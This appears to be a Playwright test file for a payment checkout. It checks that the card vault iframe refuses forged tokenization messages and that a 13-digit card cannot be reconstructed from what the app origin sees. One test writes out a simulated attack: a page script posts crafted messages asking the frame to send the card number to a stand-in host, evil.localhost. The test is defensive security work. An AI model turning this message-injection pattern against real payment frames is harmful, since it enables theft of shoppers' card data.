/**
 * Issue 11, point 4: the vault frame cannot be turned against the card. A script on the checkout
 * page (the app origin) may post any message to the frame; the card number still goes only to the
 * frame's own vault, and what the app origin sees of a 13-digit card leaves it unrecoverable.
 */
import { expect, test, type Request } from './fixtures/test';
import { paths } from '../app/config/paths';
import { E2E_ORIGINS } from './origins';
import { Checkout } from './pages/checkout';
import { shopperEmail } from './fixtures/shopper-email';
import { SUBSCRIPTION_ACTIVE } from '../catalog/shopper-messages';

const FRAME = 'iframe[title="Secure card payment fields"]';
/** A Luhn-valid 13-digit Visa with distinct digits, so that any leaked run of digits is recognisable. */
const VISA_13 = '4135792468019';

/** Every request in the browser context whose body carries `digits` (frames and popups included). */
function recordCarriers(requests: Request[], digits: string): () => string[] {
  return () => requests.filter((r) => (r.postData() ?? '').includes(digits)).map((r) => r.url());
}

test('a script on the checkout page cannot make any other server receive the card number', async ({ page, context }) => {
  const requests: Request[] = [];
  context.on('request', (r) => requests.push(r));
  // A server that would gladly take the card (with CORS open), so only the frame's refusal stands in the way.
  await context.route('http://evil.localhost:9/**', (route) =>
    route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }, json: { token: 'stolen' } }),
  );
  // The payment's poll waits pass in fake time, a poll step at a go; the clock otherwise runs with real time.
  await page.clock.install();
  const checkout = new Checkout(page);
  await checkout.open(shopperEmail('exfiltration'), '');
  await checkout.typeCard({ holder: 'Ada Lovelace', number: '4242424242424242', expiry: '12/34', cvv: '123' });
  await expect(checkout.payButton).toBeEnabled();

  const targets = ['http://evil.localhost:9/collect', `${E2E_ORIGINS.asset}/static/steal`, `${E2E_ORIGINS.app}/steal`];
  for (const vaultUrl of targets) {
    const answer = await page.evaluate(
      async ({ frameSelector, vaultUrl, assetOrigin }) => {
        const frame = document.querySelector<HTMLIFrameElement>(frameSelector);
        const requestId = `attack-${Math.random()}`;
        const reply = new Promise<unknown>((resolve) => {
          window.addEventListener('message', (event) => {
            const data = event.data as { type?: string; requestId?: string; result?: unknown };
            if (data.type === 'TOKENIZATION_RESPONSE' && data.requestId === requestId) resolve(data.result);
          });
        });
        frame?.contentWindow?.postMessage({ bus: 'mm-vault', type: 'TOKENIZATION_REQUEST', requestId, bearerToken: 'attacker', vaultUrl }, assetOrigin);
        return reply;
      },
      { frameSelector: FRAME, vaultUrl, assetOrigin: E2E_ORIGINS.asset },
    );
    expect(answer).toMatchObject({ ok: false, reason: 'vault-url-refused' });
  }
  expect(recordCarriers(requests, '4242424242424242')()).toEqual([]);

  // The shopper's own payment still reaches the configured vault, and nowhere else.
  const tokenized = page.waitForRequest((r) => r.url() === `${E2E_ORIGINS.asset}/vault/tokenize`);
  await checkout.payButton.click();
  await tokenized;
  await checkout.advanceUntil(page.getByRole('heading', { name: SUBSCRIPTION_ACTIVE }));
  await expect(page).toHaveURL(new RegExp(paths.offers));
  expect(recordCarriers(requests, '4242424242424242')()).toEqual([`${E2E_ORIGINS.asset}/vault/tokenize`]);
});

test('a 13-digit card cannot be rebuilt from what the app origin sees', async ({ page, context }) => {
  const appRequests: Request[] = [];
  context.on('request', (r) => {
    if (r.frame() === page.mainFrame()) appRequests.push(r);
  });
  // Everything the frame tells the app origin, recorded before the app's own scripts run.
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __seen: string[] }).__seen = seen;
    window.addEventListener('message', (event) => seen.push(JSON.stringify(event.data)));
  });
  const checkout = new Checkout(page);
  await checkout.open(shopperEmail('bin-13'), '');
  await checkout.typeCard({ holder: 'Ada Lovelace', number: VISA_13, expiry: '12/34', cvv: '123' });
  await expect(checkout.payButton).toBeEnabled();
  const authorize = page.waitForRequest((r) => r.method() === 'POST' && r.url().endsWith('/authorize'));
  await checkout.payButton.click();
  await authorize;

  const seen = [...(await page.evaluate(() => (window as unknown as { __seen: string[] }).__seen)), ...appRequests.map((r) => `${r.url()} ${r.postData() ?? ''}`)];
  const everything = seen.join('\n');
  // The bin the host got is the first 6 digits (below 16 digits), and the last 4 arrive with the token.
  expect(everything).toContain(`"bin":"${VISA_13.slice(0, 6)}"`);
  expect(everything).toContain(`"last4":"${VISA_13.slice(-4)}"`);
  // Never a 7th leading digit: 6 + 4 known leaves 3 unknown digits, and Luhn fixes only one.
  expect(everything).not.toContain(VISA_13.slice(0, 7));
});
